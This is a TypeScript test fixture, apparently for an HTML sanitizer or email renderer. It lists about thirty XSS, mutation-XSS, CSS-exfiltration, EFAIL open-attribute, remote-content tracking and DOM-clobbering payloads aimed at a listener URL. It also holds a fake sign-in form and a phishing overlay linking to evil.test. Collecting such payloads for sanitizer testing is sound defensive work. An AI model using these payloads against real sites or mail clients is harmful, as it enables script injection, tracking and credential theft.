/**
 * HTML that wants more than to be read: each tries to run something, or to tell a listener that it was opened. Sources: the
 * OWASP list of XSS filter evasion, the mutation XSS of Heiderich and Bentkowski, EFAIL (Poddebniak 2018), the remote content test of
 * Email Privacy Tester; written anew.
 */
export const attacks = (l: string): Readonly<Record<string, string>> => ({
  script: `<script>fetch('${l}/script');alert(1)</script><script src="${l}/script-src"></script>`,
  'event handlers': `<img src="x" onerror="fetch('${l}/onerror');alert(1)"><body onload="alert(1)"><details open ontoggle="alert(1)">x</details>`,
  'script URLs': `<a href="javascript:alert(1)">click</a><a href=" java\tscript:alert(1)">click</a><iframe src="javascript:alert(1)"></iframe>`,
  'SVG script': `<svg onload="alert(1)"><script>alert(1)</script><image href="${l}/svg-image"/><use href="${l}/svg-use#a"/></svg>`,
  'SVG animation': `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>`,
  'SVG in data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${l}/data-svg'/><script>alert(1)</script></svg>">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${l}/refresh"><meta http-equiv="set-cookie" content="a=b">`,
  base: `<base href="${l}/"><img src="base.png"><a href="x">x</a>`,
  form: `<form action="${l}/form"><input name="password" type="password" autofocus><button>Sign in</button></form><button formaction="${l}/b">x</button>`,
  images: `<img src="${l}/img"><img srcset="${l}/srcset 1x, ${l}/srcset2 2x"><picture><source srcset="${l}/source"><img src="//127.0.0.1${l.slice(l.lastIndexOf(':'))}/scheme-less"></picture><input type="image" src="${l}/input">`,
  backgrounds: `<table background="${l}/background"><tr><td background="${l}/td" style="background:url(${l}/style)">x</td></tr></table>`,
  'escaped style': `<p style="background:u\\72l(${l}/escape)">x</p><p style='background:url/**/("${l}/comment")'>x</p><p style="--a:url(${l}/variable);background:var(--a)">x</p>`,
  'style sheets': `<style>@import "${l}/import";@import url(${l}/import-url);body{background:url(${l}/body)}p::before{content:url(${l}/content)}li{list-style:url(${l}/list)}p{cursor:url(${l}/cursor),auto;border-image:url(${l}/border);mask:image-set("${l}/set" 1x)}</style><p>x</p><ul><li>y</ul><link rel="stylesheet" href="${l}/link"><link rel="preload" as="image" href="${l}/preload"><link rel="dns-prefetch" href="${l}/dns"><link rel="icon" href="${l}/icon">`,
  fonts: `<style>@font-face{font-family:f;src:url(${l}/font)}p{font-family:f}</style><p>text</p>`,
  exfiltration: `<style>a[href^="https://s"]{background:url(${l}/starts-with-s)}@media(min-width:1px){p{background:url(${l}/media)}}@supports(display:block){p{&:first-child{background:url(${l}/nested)}}}@keyframes k{to{background:url(${l}/frames)}}p{animation:k 1s}</style><p>x</p><a href="https://secret.test/">y</a>`,
  films: `<video src="${l}/video" poster="${l}/poster" autoplay><source src="${l}/video-source"><track src="${l}/track"></video><audio src="${l}/audio" autoplay></audio><bgsound src="${l}/bgsound">`,
  embedded: `<object data="${l}/object"><embed src="${l}/embed"></object><iframe src="${l}/iframe"></iframe><iframe srcdoc="<script>parent.alert(1)</script><img src=${l}/srcdoc>"></iframe><frameset><frame src="${l}/frame"></frameset><applet code="${l}/applet"></applet><portal src="${l}/portal"></portal>`,
  'mutation in noscript': `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  'mutation in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${l}/mathml onerror=alert(1)&gt;"></table></mtext></math>`,
  'mutation in SVG': `<svg></p><style><a id="</style><img src=${l}/svg-style onerror=alert(1)>">`,
  'mutation in form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  'mutation in template': `<template><style></template><img src=x onerror=alert(1)></style></template><select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
  'open attribute': `<img src="${l}/efail?text=`,
  'open style': `<style>p{background:url(${l}/open-style?`,
  clobbering: `<img name="body" src="${l}/clobber"><form id="head" name="head"></form><a id="documentElement" name="adoptNode">x</a><img name="createElement"><img name="querySelectorAll">`,
  'opened windows': `<a href="${l}/ping-target" ping="${l}/ping" target="_top" rel="opener" autofocus>x</a>`,
  'style out of the frame': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended. <a href="https://evil.test/">Sign in</a></div>`,
  custom: `<x-a onclick="alert(1)"></x-a><div is="x-b" popover id="p">x</div><dialog open>x</dialog><marquee onstart="alert(1)">x</marquee>`,
});
